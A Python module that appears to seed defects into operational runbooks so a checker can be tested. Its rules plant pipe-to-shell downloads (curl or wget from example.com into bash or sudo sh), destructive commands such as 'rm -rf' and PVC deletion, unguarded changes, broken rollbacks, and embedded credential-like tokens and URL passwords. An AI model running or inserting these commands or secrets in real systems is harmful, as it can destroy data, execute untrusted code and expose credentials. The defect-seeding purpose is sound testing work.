"""Defects of steps that change or destroy something."""

from __future__ import annotations

from collections.abc import Iterator

from seeded.page import Page, Planted
from seeded.planting import plants

_CHANGES = (
    "kubectl -n shop rollout restart deploy/checkout",
    "systemctl restart checkout",
    "curl --fail --max-time 10 --request PUT --data 1 http://checkout:8080/admin/settings/payment_retries",
)
_DESTROYS = (
    "kubectl -n shop delete pvc data-0",
    "rm -rf /var/lib/checkout",
)


@plants("RB601")
def unmarked_mutation(page: Page) -> Iterator[Planted]:
    """Say nothing, or the opposite, of a shell step that changes something."""
    for step in page.actions("bash"):
        mark = step.label("Changes")
        if mark is not None:
            undo = step.label("Rollback")
            lines = [
                line for at, line in enumerate(page.lines) if at not in {mark, undo}
            ]
            yield page.put(0, len(page.lines), *lines, at=step.opening)
            lines = list(page.lines)
            lines[mark] = "**Reads only**"
            yield page.put(0, len(lines), *lines, at=step.body[0], to=step.body[-1])
        reads = step.label("Reads only")
        if reads is not None:
            yield page.put(reads, reads + 1, at=step.opening)
            for command in _CHANGES:
                yield page.put(step.body[0], step.body[-1] + 1, command)


@plants("RB602")
def drop_rollback(page: Page) -> Iterator[Planted]:
    for step in page.actions("bash"):
        undo, mark = step.label("Rollback"), step.label("Changes")
        if undo is not None and mark is not None:
            yield page.put(undo, undo + 2, at=mark)
            yield page.put(undo, undo + 1, "**Rollback:** see above")


@plants("RB603")
def destroy_unguarded(page: Page) -> Iterator[Planted]:
    """Destroy in the first step, before anything was looked at."""
    for step in page.actions("bash"):
        for command in _DESTROYS:
            lines = [*page.lines[step.first : step.end]]
            body = [at - step.first for at in step.body]
            lines[body[0] : body[-1] + 1] = [command]
            reads = next(
                (n for n, line in enumerate(lines) if line == "**Reads only**"), None
            )
            if reads is not None:
                lines[reads] = (
                    "**Changes:** data is gone\n\n**Rollback:** none, because what is deleted is gone"
                )
            first = page.steps[0].first
            rest = [*page.lines[first : step.first], *page.lines[step.end :]]
            yield page.put(first, len(page.lines), *lines, *rest, at=first + body[0])


@plants("RB605")
def silence_for_ever(page: Page) -> Iterator[Planted]:
    for step in page.actions("bash"):
        yield page.put(
            step.body[0],
            step.body[-1] + 1,
            "amtool silence add alertname=CheckoutErrorsHigh --comment 'being worked on'",
        )


@plants("RB606")
def pipe_remote_script(page: Page) -> Iterator[Planted]:
    for step in page.actions("bash"):
        yield page.insert(
            step.body[-1] + 1, "curl -s https://example.com/collect.sh | bash"
        )
        yield page.put(
            step.body[0],
            step.body[-1] + 1,
            "wget -qO- https://example.com/fix.sh | sudo sh -s --",
        )


@plants("RB607", on=("runbook", "postmortem", "page"))
def leave_secret(page: Page) -> Iterator[Planted]:
    secret = "sk_" + "live_" + "4eC39HqLyjWDarjtT1zdp7dc"
    token = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"
    for at in page.every(r"^[A-Z][a-z]+ .*\w$|^[A-Z].*\.$"):
        yield page.put(at, at + 1, f"{page.lines[at]} The password is `{token}`.")
    for step in page.actions("bash"):
        at = step.body[-1]
        yield page.put(
            at, at + 1, f"{page.lines[at]} --header 'Authorization: Bearer {secret}'"
        )
        yield from page.sub(at, r"http://(?=[a-z]+\.)", "http://report:Tr4vel-9kQz@")


@plants("RB610")
def change_in_diagnosis(page: Page) -> Iterator[Planted]:
    """Take a change out of Mitigation and put it first in Diagnosis."""
    diagnosis, mitigation = page.section("Diagnosis"), page.section("Mitigation")
    for step in page.actions("bash"):
        if step.first in mitigation and step.label("Changes") is not None:
            moved = page.lines[step.first : step.end]
            rest = [
                *page.lines[diagnosis.start + 2 : step.first],
                *page.lines[step.end :],
            ]
            yield page.put(
                diagnosis.start + 2,
                len(page.lines),
                *moved,
                *rest,
                at=diagnosis.start + 2,
            )
        elif step.first in diagnosis:
            for command in _CHANGES:
                yield page.put(step.body[0], step.body[-1] + 1, command)


@plants("RB613")
def break_rollback(page: Page) -> Iterator[Planted]:
    for at in page.every(r"^\*\*Rollback:\*\* `[^`]+`$"):
        yield from page.sub(at, r"`$", " && `")
        yield from page.sub(at, r" (?=--)", ' "')
        yield from page.sub(at, r"`[^`]+`", "` `")
